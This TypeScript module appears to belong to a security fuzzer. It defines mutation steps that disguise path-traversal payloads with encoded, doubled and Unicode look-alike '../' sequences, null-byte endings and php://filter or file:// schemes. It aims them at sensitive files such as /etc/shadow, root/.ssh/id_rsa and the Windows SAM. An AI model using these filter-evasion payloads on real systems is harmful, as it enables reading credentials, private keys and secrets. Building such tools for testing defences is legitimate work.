import { int, pick } from '../random.js'
import { percentSigns, percentSome } from './encodings.js'
import { eachMatch, mixedCase, mutators } from './step.js'
import type { Step } from './step.js'
import { letters, word, words } from './words.js'

const UPS = /(?:\.\.[\\/]+){2,}/
const UP = /\.\.\//g

/** More steps up than need be: above the root is the root. */
const depth: Step = (text, random) =>
  text.replace(UPS, (ups) => {
    const count = ups.match(/\.\./g)!.length
    return (/\.\.[\\/]+/.exec(ups)?.[0] ?? '../').repeat(count + int(random, 0, 8))
  })

/** Steps up that a file system reads as the same, some only where a filter has removed `../` once. */
const upSteps: Step = (text, random) => {
  const up = pick(random, ['..//', '.././', './../', '..///', '..\\', '....//', '..;/', '....\\/', './/../'])
  return text.replace(UP, () => up)
}
/** The same, another way at each step. */
const mixedUps: Step = (text, random) =>
  eachMatch(text, UP, random, 0.7, () => pick(random, ['..//', '.././', './../', '..///', './/../']))

/** Down into a folder and up again. */
const detour: Step = (text, random) =>
  eachMatch(text, UP, random, 0.4, (up) => `${up}${pick(random, [word(random), letters(random, 1, 8)])}/../`)

const encodedUps: Step = (text, random) => {
  const up = pick(random, [
    '%2e%2e/', '..%2f', '%2e%2e%2f', '%252e%252e%252f', '..%c0%af', '.%2e/', '%c0%ae%c0%ae/', '..%255c', '..%5c',
    '%2e./', '..%252f', '%u002e%u002e/', '..%u2215', '%c0%ae%c0%ae%c0%af', '..%e0%80%af', '%%32%65%%32%65/', '..%25%32%66',
  ]) // prettier-ignore
  return text.replace(/\.\.[\\/]/g, () => up)
}

const selfSteps: Step = (text, random) =>
  eachMatch(text, /(?<=[a-z])\/(?=[a-z])/gi, random, 0.5, () =>
    pick(random, ['//', '/./', '/.//', '///', '/././']),
  )

const nullEnd: Step = (text, random) => {
  if (/\0|%00/.test(text) || !/[\w.]$/.test(text)) return text
  return `${text}${pick(random, ['\0', '%00', '\0.jpg', '%00.html', '\0.png', `%00${word(random)}.pdf`])}`
}

const FOLDERS = [
  '/var/www/',
  '/var/www/html/',
  '/usr/share/',
  '/home/',
  '/opt/app/',
  '/srv/',
  '/static/',
  './',
  '/',
]
/** Folders before the steps up, with as many more steps. */
const foldersBefore: Step = (text, random) => {
  if (!text.startsWith('..')) return text
  const before = pick(random, [
    ...FOLDERS,
    `${word(random)}/`,
    `${letters(random, 3, 8)}/${word(random)}/`,
    `/${word(random)}/${word(random)}/`,
  ])
  return before + '../'.repeat(before.match(/\w+/g)?.length ?? 0) + text
}

/** A path of ordinary folders before as many steps up. */
const longBefore: Step = (text, random) => {
  if (!text.startsWith('..')) return text
  const folders = Array.from({ length: int(random, 3, 25) }, () => word(random))
  return `${folders.join('/')}/${'../'.repeat(folders.length)}${text}`
}

const UNIX = [
  'etc/passwd', 'etc/shadow', 'etc/hosts', 'etc/group', 'proc/self/environ', 'proc/version', 'etc/issue', 'root/.ssh/id_rsa',
  'var/log/apache2/access.log', 'etc/mysql/my.cnf', 'proc/self/cmdline', 'etc/nginx/nginx.conf', 'etc/crontab',
  'proc/self/fd/0', 'proc/mounts', 'root/.bash_history', 'etc/fstab', 'etc/sudoers', 'var/log/auth.log', 'etc/resolv.conf',
  'proc/net/tcp', 'home/ubuntu/.ssh/authorized_keys', 'etc/hostname', 'etc/os-release', 'etc/php/php.ini', 'proc/1/maps',
] as const // prettier-ignore
const WINDOWS = [
  'windows/win.ini', 'boot.ini', 'windows/system.ini', 'windows/system32/drivers/etc/hosts', 'inetpub/wwwroot/web.config',
  'windows/repair/sam', 'xampp/apache/conf/httpd.conf', 'windows/php.ini', 'windows/panther/unattend.xml',
] as const // prettier-ignore
const otherFile: Step = (text, random) =>
  text
    .replace(/(?<=(?:^|\.\.|:\/\/|["'\s<=])[\\/])etc\/passwd\b/, () => pick(random, UNIX))
    .replace(/windows\/win\.ini\b/i, () => pick(random, WINDOWS))

/** A second name of the same file. */
const otherName: Step = (text, random) =>
  text.replace(/(?<=(?:^|\.\.|:\/\/|["'\s<=])[\\/])etc\/(?=passwd|shadow|hosts|group)/, () =>
    pick(random, [
      'etc/./', 'proc/self/root/etc/', 'etc/../etc/', 'proc/1/root/etc/', 'usr/../etc/', 'etc/init.d/../', 'tmp/../etc/',
      'dev/../etc/', 'etc/ssl/../', 'proc/self/cwd/../../../../../etc/', 'var/run/../../etc/',
    ]),
  ) // prettier-ignore

const windowsCase: Step = (text, random) =>
  eachMatch(
    text,
    /\b(?:windows|winnt|system32|win\.ini|boot\.ini|system\.ini|inetpub|web\.config)\b/gi,
    random,
    0.9,
    (name) => mixedCase(name, random),
  )
const backslashes: Step = (text) =>
  /windows|win\.ini|boot\.ini|c:|inetpub/i.test(text) && !text.includes('://')
    ? text.replaceAll('/', '\\')
    : text

const scheme: Step = (text, random) =>
  text.replace(/^(?:file:\/\/)?\/(?=(?:etc|proc|root|var|windows)\/)/i, () =>
    pick(random, [
      'file:///', 'FILE:///', 'file://localhost/', 'file:/', 'php://filter/convert.base64-encode/resource=/', '//', '/./', '/../../',
      'php://filter/read=string.rot13/resource=/', 'php://filter/zlib.deflate/convert.base64-encode/resource=/', 'local_file:///',
      'netdoc:///', 'jar:file:///', 'view-source:file:///',
    ]),
  ) // prettier-ignore

/** Characters that NFKC (UAX #15) or a best-fit table turns into dots and slashes. */
const lookAlikes: Step = (text, random) => {
  const [dot, slash] = [pick(random, ['\uff0e', '\u2024']), pick(random, ['\uff0f', '/'])]
  const dots = pick(random, [dot + dot, '\u2025'])
  return text.replace(UP, () => dots + slash)
}

const afterName: Step = (text, random) =>
  text.startsWith('..')
    ? `${pick(random, [word(random), words(random, 1, 3)])}/${text.startsWith('../') ? '../' : ''}${text}`
    : text

export const TRAVERSAL = mutators({
  case: { windows: windowsCase },
  encodings: { encodedUps, percentSigns, percentSome },
  alternatives: { otherFile, nullEnd, scheme },
  paths: { depth, upSteps, mixedUps, detour, selfSteps, otherName, backslashes, foldersBefore },
  'look-alikes': { lookAlikes },
  surroundings: { afterName },
  padding: { longBefore },
})
